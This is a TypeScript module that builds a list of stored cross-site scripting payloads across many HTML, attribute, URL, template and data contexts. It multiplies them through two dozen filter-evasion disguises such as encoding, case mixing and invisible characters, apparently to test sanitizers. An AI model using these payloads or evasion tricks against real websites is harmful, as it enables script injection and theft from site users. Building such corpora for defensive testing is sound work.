/** Texts that would run a script where a page shows them as markup, by kind. `RUN` stands for the script. */
const kinds = {
  element: ['<script>RUN</script>', '<img src=x onerror=RUN>', '<svg onload=RUN>', '<details open ontoggle=RUN>'],
  endOfText: [
    '</script><script>RUN</script>',
    '--><script>RUN</script>',
    '</textarea><img src=x onerror=RUN>',
    '</title><svg/onload=RUN>',
  ],
  attribute: [
    '" onfocus=RUN autofocus x="',
    "' onmouseover=RUN style='position:fixed;inset:0",
    '" onerror=RUN src=x x="',
  ],
  address: ['javascript:RUN', 'data:text/html,<script>RUN</script>', '<a href="javascript:RUN">x</a>'],
  frame: [
    '<iframe srcdoc="<script>parent.RUN</script>">',
    '<object data="javascript:RUN">',
    '<embed src="javascript:RUN">',
  ],
  styleAndMath: ['<style>@import "javascript:RUN"</style>', '<math><mtext><img src=x onerror=RUN></mtext></math>'],
  parser: ['<noscript><p title="</noscript><img src=x onerror=RUN>">', '<form><button formaction="javascript:RUN">x'],
  template: [
    '{{constructor.constructor("RUN")()}}',
    '#{RUN}',
    '<%= RUN %>',
    '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=RUN>"}}',
  ],
  data: [
    ']);RUN;self.__next_f.push([1,"',
    '"}];RUN;[{"',
    '\\u003cimg src=x onerror=RUN\\u003e',
    '&lt;img src=x onerror=RUN&gt;',
  ],
} as const;

/** Ways of writing one payload so that a filter by words misses it. */
const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => text.replaceAll('<', '<\u0000'),
  (text) => text.replaceAll(' ', '\t'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll('javascript:', 'java\nscript:'),
  (text) => text.replaceAll('javascript:', '\u0001javascript:'),
  (text) => text.replaceAll('<', '\uff1c'),
  (text) => text.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (text) => text.replaceAll('=', ' = '),
  (text) => text.replaceAll('>', ' //>'),
  (text) => `${text}${text}`,
  (text) => `\u202e${text}`,
  (text) => `<!--${text}`,
  (text) => `<x x="${text}">`,
  (text) => `]]>${text}`,
  (text) => `*${text}*`,
  (text) => `[${text}](${text})`,
  (text) => `\ufeff${text}`,
  (text) => `'">${text}`,
  (text) => `</div></p></td>${text}`,
  (text) => `${text}<!--`,
  (text) => `&#x22;>${text}`,
  (text) => text.replaceAll('onerror', 'OnErRoR').replaceAll('script', 'scRipt'),
];

const RUN = "(window.stolen=(window.stolen||0)+1,alert('stored'))";

/** All payloads, those as they are written before their disguises; a disguise that changes nothing adds nothing. */
export const payloads: readonly string[] = [
  ...new Set(
    disguises.flatMap((disguise) =>
      Object.values(kinds)
        .flat()
        .map((text) => disguise(text).replaceAll('RUN', RUN)),
    ),
  ),
];
